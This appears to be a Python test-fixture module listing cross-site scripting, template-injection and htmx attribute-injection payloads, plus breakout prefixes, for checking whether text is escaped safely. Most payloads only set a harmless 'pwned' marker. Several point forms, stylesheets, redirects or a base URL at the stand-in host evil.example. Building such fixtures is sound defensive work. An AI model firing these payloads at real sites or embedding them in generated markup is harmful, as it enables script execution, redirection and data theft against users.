"""Texts that run something where a page, a mail or a template takes them for more than text."""

from itertools import islice, product

MARK = "pwned"
"""What each of them would set in a browser: `window.pwned`, or an alert; or what it asks for."""

VECTORS = (
    "<script>pwned=1</script>",
    "<img src=x onerror=pwned=1>",
    "<svg onload=pwned=1>",
    "<svg><script>pwned=1</script></svg>",
    "<body onload=pwned=1>",
    "<iframe src=javascript:parent.pwned=1>",
    "<a href=javascript:pwned=1 autofocus>x</a>",
    "<input autofocus onfocus=pwned=1>",
    "<details open ontoggle=pwned=1>",
    "<video src=x onerror=pwned=1>",
    "<marquee onstart=pwned=1>",
    "<object data=javascript:pwned=1>",
    "<math><mi xlink:href=javascript:pwned=1>",
    "<style>@import'//evil.example'</style>",
    "<link rel=stylesheet href=//evil.example>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0;//evil.example>",
    "<form action=//evil.example><button>x",
    "<img src=//evil.example/x>",
    "<template><script>pwned=1</script>",
    "onmouseover=pwned=1 x=",
    "javascript:pwned=1",
    "{{7*7}}{{config}}",
    "{%for x in ().__class__%}x{%endfor%}",
    "${7*7}#{7*7}<%=7*7%>",
    "{0.__class__}%s%(x)s",
    "&lt;script&gt;pwned=1&lt;/script&gt;",
    "<scr<script>ipt>pwned=1</script>",
    "<ScRiPt/x>pwned=1</sCrIpT>",
)
LIVELY = (
    "<p hx-get=/pwned hx-trigger=load>x",
    "<p data-hx-get=/pwned data-hx-trigger=load>x",
    '" hx-get="/pwned" hx-trigger="load',
    "' data-hx-get='/pwned' data-hx-trigger='load",
    "><b hx-post=/pwned hx-trigger='every 1ms'>",
    "<p hx-on::load=pwned=1>x",
    "<p hx-on:htmx:after-request=pwned=1 hx-get=/pwned hx-trigger=load>",
    "<p hx-vals=js:{a:pwned=1} hx-get=/pwned hx-trigger=load>",
    "<p hx-trigger=load[pwned=1] hx-get=/pwned>",
    "<p hx-swap-oob=outerHTML:h1>pwned</p>",
    "<template><p hx-swap-oob=innerHTML:h1>pwned</template>",
    "<p id=told hx-swap-oob=true>pwned",
    "<body hx-boost=true hx-ext=pwned>",
    "<title>pwned</title>",
    '<meta name=htmx-config content={"allowEval":true}>',
)
"""Texts that would make a page ask for something, or change it, where htmx takes them for marks."""

AROUND = (
    "{}",
    '">{}',
    "'>{}",
    "--><!--{}",
    "</title>{}",
    "</text></svg>{}",
    "</textarea>{}",
)
PAYLOADS = tuple(
    islice((around.format(vector) if "{" not in vector else around.replace("{}", vector)
            for around, vector in product(AROUND, VECTORS)), 200)
) + LIVELY  # fmt: skip
